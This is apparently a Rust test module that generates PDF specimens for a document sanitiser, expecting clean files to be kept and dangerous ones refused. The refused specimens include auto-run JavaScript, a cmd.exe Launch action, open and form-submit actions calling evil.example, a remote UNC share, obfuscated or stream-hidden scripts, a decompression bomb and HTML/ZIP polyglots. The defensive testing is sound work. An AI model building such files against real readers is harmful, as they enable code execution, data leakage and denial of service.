//! PDF documents.

use super::{Specimen, kept, refused};
use flate2::Compression;
use flate2::write::ZlibEncoder;
use std::io::Write;

/// A document of these objects, with a table and an end. The first is its catalogue.
fn pdf(objects: &[&[u8]]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (n, object) in objects.iter().enumerate() {
        places.push(bytes.len());
        bytes.extend_from_slice(format!("{} 0 obj\n", n + 1).as_bytes());
        bytes.extend_from_slice(object);
        bytes.extend_from_slice(b"\nendobj\n");
    }
    let table = bytes.len();
    bytes.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for place in places {
        bytes.extend_from_slice(format!("{place:010} 00000 n \n").as_bytes());
    }
    bytes.extend_from_slice(format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n", objects.len() + 1).as_bytes());
    bytes
}

const PAGES: &[u8] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE: &[u8] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>";

/// A document of one empty page that opens at its first page.
pub fn harmless() -> Vec<u8> {
    pdf(&[b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, PAGE])
}

/// A document whose catalogue has more in it.
fn with(catalogue: &str, more: &[&[u8]]) -> Vec<u8> {
    let catalogue = format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>");
    let mut objects: Vec<&[u8]> = vec![catalogue.as_bytes(), PAGES, PAGE];
    objects.extend_from_slice(more);
    pdf(&objects)
}

fn packed(content: &[u8]) -> Vec<u8> {
    let mut out = ZlibEncoder::new(Vec::new(), Compression::best());
    out.write_all(content).expect("memory");
    out.finish().expect("memory")
}

fn stream(dictionary: &str, content: &[u8]) -> Vec<u8> {
    let mut bytes = format!("<< {dictionary} /Length {} >>\nstream\n", content.len()).into_bytes();
    bytes.extend_from_slice(content);
    bytes.extend_from_slice(b"\nendstream");
    bytes
}

/// A stream of objects that holds one, number 9.
fn object_stream(object: &str) -> Vec<u8> {
    stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &packed(format!("9 0 {object}").as_bytes()))
}

pub fn specimens() -> Vec<Specimen> {
    let whole = harmless();
    let script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let mut page_behind = whole.clone();
    page_behind.extend_from_slice(b"<html><script>alert(1)</script></html>");
    let mut archive_behind = whole.clone();
    archive_behind.extend_from_slice(b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
    let mut page_before = b"<html><!-- ".to_vec();
    page_before.extend_from_slice(&whole);
    let locked = String::from_utf8_lossy(&whole).replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 4 0 R");
    let bomb = stream("/Filter /FlateDecode", &packed(&vec![b' '; 70 * 1024 * 1024]));
    let ascii_objects = stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", b"78da>");
    let untyped_objects = stream("/N 1 /First 4 /Filter /FlateDecode", &packed(format!("9 0 {script}").as_bytes()));
    let text = stream("/Filter /FlateDecode", &packed(b"BT /F1 12 Tf (Child death review) Tj ET"));
    vec![
        kept("a document", "report.pdf", whole.clone()),
        kept(
            "a document with packed text and a link",
            "report.pdf",
            with("", &[&text, b"<< /Type /Action /S /URI /URI (https://www.ncmd.info/) >>"]),
        ),
        kept("a document that opens at a page named elsewhere", "report.pdf", with("/OpenAction 4 0 R", &[b"<< /S /GoTo /D [3 0 R /Fit] >>"])),
        refused("a script", "a.pdf", with("/OpenAction 4 0 R", &[script.as_bytes()]), "active_content"),
        refused("a script whose name is written in numbers", "a.pdf", with("/Names << /#4Aava#53cript 4 0 R >>", &[b"<< >>"]), "active_content"),
        refused("a script in a packed stream of objects", "a.pdf", with("/Names 9 0 R", &[&object_stream(script)]), "active_content"),
        refused("a script in a stream of objects that does not say so", "a.pdf", with("/Names 9 0 R", &[&untyped_objects]), "active_content"),
        refused("a stream of objects that cannot be looked into", "a.pdf", with("", &[&ascii_objects]), "cannot_be_checked"),
        refused("a program to be started", "a.pdf", with("/OpenAction << /S /Launch /F (cmd.exe) >>", &[]), "active_content"),
        refused("an address fetched on opening", "a.pdf", with("/OpenAction << /S /URI /URI (https://evil.example/) >>", &[]), "active_content"),
        refused(
            "an address fetched on opening, told elsewhere",
            "a.pdf",
            with("/OpenAction 4 0 R", &[b"<< /S /URI /URI (https://evil.example/) >>"]),
            "active_content",
        ),
        refused(
            "an action on opening hidden in a stream",
            "a.pdf",
            with("/OpenAction 9 0 R", &[&object_stream("<< /S /URI /URI (https://evil.example/) >>")]),
            "active_content",
        ),
        refused("an embedded file", "a.pdf", with("/Names << /EmbeddedFiles 4 0 R >>", &[b"<< /Type /EmbeddedFile >>"]), "embedded_file"),
        refused("a film with a program", "a.pdf", with("", &[b"<< /Subtype /RichMedia >>"]), "active_content"),
        refused("a form with scripts of its own", "a.pdf", with("/AcroForm << /XFA 4 0 R >>", &[b"<< >>"]), "active_content"),
        refused("a file on another computer", "a.pdf", with("/Outlines << /S /GoToR /F (\\\\\\\\evil\\\\share) >>", &[]), "external_content"),
        refused("actions of a page", "a.pdf", with("", &[b"<< /Type /Page /AA << /O 5 0 R >> >>"]), "active_content"),
        refused("a form that sends itself", "a.pdf", with("", &[b"<< /S /SubmitForm /F (https://evil.example/) >>"]), "active_content"),
        refused("a locked document", "a.pdf", locked.into_bytes(), "encrypted"),
        refused("a document cut short", "a.pdf", &whole[..whole.len() / 2], "damaged"),
        refused("a page for a browser behind the end", "a.pdf", page_behind, "hidden_data"),
        refused("an archive behind the end", "a.pdf", archive_behind, "hidden_data"),
        refused("a page for a browser before the beginning", "a.pdf", page_before, "content_mismatch"),
        refused("a stream that unpacks to seventy megabytes", "a.pdf", with("", &[&bomb]), "unpacks_too_large"),
        refused("a page for a browser under the name of a document", "a.pdf", &b"<html><script>alert(1)</script></html>"[..], "content_mismatch"),
    ]
}
